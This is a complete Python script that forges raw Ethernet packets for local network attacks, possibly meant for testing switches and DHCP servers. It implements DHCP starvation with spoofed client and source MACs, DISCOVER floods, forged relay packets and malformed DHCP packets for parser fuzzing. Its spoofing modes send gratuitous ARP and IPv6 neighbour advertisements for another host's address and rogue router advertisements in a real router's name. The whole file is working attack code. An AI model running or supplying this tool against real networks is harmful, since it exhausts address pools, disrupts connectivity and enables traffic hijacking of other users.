"""Hand-made packets, for what no client or router does on its own.

usage: forge.py PORT starvation COUNT | hidden-starvation COUNT | nak COUNT ADDRESS | pxe COUNT | malformed COUNT | relay COUNT GIADDR [PAUSE] | discovers COUNT
       forge.py PORT garp COUNT ADDRESS | na COUNT ADDRESS | ra COUNT LINK-LOCAL LIFETIME
"""
import os
import random
import select
import socket
import struct
import sys
import time

BROADCAST = b"\xff" * 6
DISCOVER, OFFER, REQUEST = 1, 2, 3
MAGIC = b"\x63\x82\x53\x63"


def checksum(data):
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ethernet_udp(source, body, address=bytes(4), ports=(68, 67)):
    udp = struct.pack(">HHHH", *ports, 8 + len(body), 0) + body
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.getrandbits(16), 0, 64, 17, 0, address, b"\xff" * 4)
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    return BROADCAST + source + b"\x08\x00" + ip + udp


def bootp(client, xid, options, giaddr=bytes(4), hlen=6, op=1, magic=MAGIC, hops=0):
    return struct.pack(">BBBBIHH12x4s16s64x128x4s", op, 1, hlen, hops, xid, 0, 0x8000, giaddr, client + bytes(10), magic) + options


def packet(source, client, xid, options):
    body = bootp(client, xid, options + b"\xff")
    return ethernet_udp(source, body + bytes(max(0, 300 - len(body))))


def option(code, data):
    return bytes((code, len(data))) + data


def answer(s, xid, seconds):
    """(type, offered address, server) of the answer to `xid`, if one comes."""
    end = time.monotonic() + seconds
    while (left := end - time.monotonic()) > 0:
        if select.select([s], [], [], left)[0]:
            data = s.recv(2048)
            if data[12:14] == b"\x08\x00" and data[23] == 17 and data[36:38] == b"\x00\x44" and data[46:50] == struct.pack(">I", xid):
                options, at = {}, 282
                while at + 1 < len(data) and data[at] != 255:
                    options[data[at]] = data[at + 2:at + 2 + data[at + 1]]
                    at += 2 + data[at + 1]
                return options.get(53, b"\0")[0], data[58:62], options.get(54, b"")
    return None


def lease(s, source, client, more=b""):
    """One DISCOVER, OFFER, REQUEST, ACK in the name of `client`."""
    xid = random.getrandbits(32)
    s.send(packet(source, client, xid, option(53, bytes([DISCOVER])) + more))
    offer = answer(s, xid, 0.4)
    if offer and offer[0] == OFFER:
        s.send(packet(source, client, xid, option(53, bytes([REQUEST])) + option(50, offer[1]) + option(54, offer[2]) + more))
        answer(s, xid, 0.4)


def starvation(s, own, number):
    """A new client each time, all from one machine: the Ethernet source is not hidden."""
    lease(s, own, b"\x02" + os.urandom(5))
    time.sleep(0.15)


def hidden_starvation(s, own, number):
    """A new client each time, and a new Ethernet source with it."""
    client = b"\x02" + os.urandom(5)
    lease(s, client, client)
    time.sleep(0.1)


def pxe(s, own, number):
    """A machine's UEFI ROM: vendor class, architecture and UUID, as real ones send them."""
    client = bytes.fromhex("02005e0054") + bytes([number])
    lease(s, client, client, option(60, b"PXEClient:Arch:00007:UNDI:003016") + option(93, b"\x00\x07") + option(94, b"\x01\x03\x10") + option(97, b"\x00" + bytes([number] * 16))
          + option(55, bytes((1, 2, 3, 4, 5, 6, 12, 13, 15, 17, 18, 22, 23, 28, 40, 41, 42, 43, 50, 51, 54, 58, 59, 60, 66, 67, 97, 128))))
    time.sleep(0.15)


def nak(s, own, number, address):
    """INIT-REBOOT for an address that is not of this network."""
    xid = random.getrandbits(32)
    s.send(packet(own, own, xid, option(53, bytes([REQUEST])) + option(50, socket.inet_aton(address))))
    answer(s, xid, 0.3)
    time.sleep(0.15)


def malformed(s, own, number):
    """Packets that receivers read differently: lengths that lie, options that run over the end, overload of overload."""
    kind = option(53, bytes([DISCOVER]))
    xid = random.getrandbits(32)
    bodies = [
        bootp(own, xid, kind + b"\xff", hlen=17), bootp(own, xid, kind + b"\xff", hlen=0), bootp(own, xid, kind + b"\xff", magic=b"\x63\x82\x53\x64"),
        bootp(own, xid, kind + b"\x0c\x40ab"), bootp(own, xid, b"\x35\x00\xff"), bootp(own, xid, kind + option(53, bytes([REQUEST])) + b"\xff"),
        bootp(own, xid, kind + option(52, b"\x07") + b"\xff"), bootp(own, xid, kind + option(121, b"\x21\x0a\x00\x00\x00\x01\x0a\x00\x00\x01") + b"\xff"),
        bootp(own, xid, kind + option(82, b"\x01\x50ab") + b"\xff"), bootp(own, xid, option(53, b"\xee") + b"\xff"), bootp(own, xid, kind + option(61, b"\x01") + b"\xff"),
        bootp(own, xid, kind + b"\xff", op=3), bootp(own, xid, kind)[:200],
    ]
    s.send(ethernet_udp(own, bodies[number % len(bodies)]))
    time.sleep(0.3)


def discovers(s, own, number):
    """A question that nobody will follow up, each from another Ethernet source."""
    client = b"\x02" + os.urandom(5)
    s.send(packet(client, client, random.getrandbits(32), option(53, bytes([DISCOVER]))))
    time.sleep(0.01)


def relay(s, own, number, giaddr, pause=0.4):
    """DISCOVERs as if relayed, for a network that this machine does not relay for."""
    client = b"\x02" + os.urandom(5)
    options = option(53, bytes([DISCOVER])) + (option(82, option(1, b"port-%d" % number)) if number % 2 else b"") + b"\xff"
    s.send(ethernet_udp(own, bootp(client, random.getrandbits(32), options + bytes(60), giaddr=socket.inet_aton(giaddr), hops=1), address=socket.inet_aton(giaddr), ports=(67, 67)))
    time.sleep(float(pause))


def garp(s, own, number, address):
    """A gratuitous ARP for somebody else's address."""
    ip = socket.inet_aton(address)
    s.send(BROADCAST + own + b"\x08\x06" + struct.pack(">HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, own, ip, BROADCAST, ip) + bytes(18))
    time.sleep(0.5)


def icmpv6(own, mac, source, target, body):
    pseudo = source + target + struct.pack(">I3xB", len(body), 58)
    body = body[:2] + struct.pack(">H", checksum(pseudo + body)) + body[4:]
    return mac + own + b"\x86\xdd" + struct.pack(">IHBB", 0x60000000, len(body), 58, 255) + source + target + body


ALL_NODES, ALL_NODES_MAC = socket.inet_pton(socket.AF_INET6, "ff02::1"), bytes.fromhex("333300000001")


def na(s, own, number, address):
    """An unsolicited advertisement with the override flag for somebody else's IPv6 address."""
    ip = socket.inet_pton(socket.AF_INET6, address)
    s.send(icmpv6(own, ALL_NODES_MAC, ip, ALL_NODES, struct.pack(">BBHI", 136, 0, 0, 0xA0000000) + ip + b"\x02\x01" + own))
    time.sleep(0.5)


def ra(s, own, number, router, lifetime):
    """A router advertisement in the name of `router`, with the real sender's own Ethernet address."""
    body = struct.pack(">BBHBBHII", 134, 0, 0, 64, 0, int(lifetime), 0, 0)
    s.send(icmpv6(own, ALL_NODES_MAC, socket.inet_pton(socket.AF_INET6, router), ALL_NODES, body))
    time.sleep(4)


def main(port, what, count, *more):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    s.bind((port, 0))
    own = s.getsockname()[4]
    act = {"starvation": starvation, "hidden-starvation": hidden_starvation, "nak": nak, "pxe": pxe, "malformed": malformed, "relay": relay, "discovers": discovers, "garp": garp, "na": na, "ra": ra}[what]
    for number in range(int(count)):
        act(s, own, number, *more)


main(*sys.argv[1:])
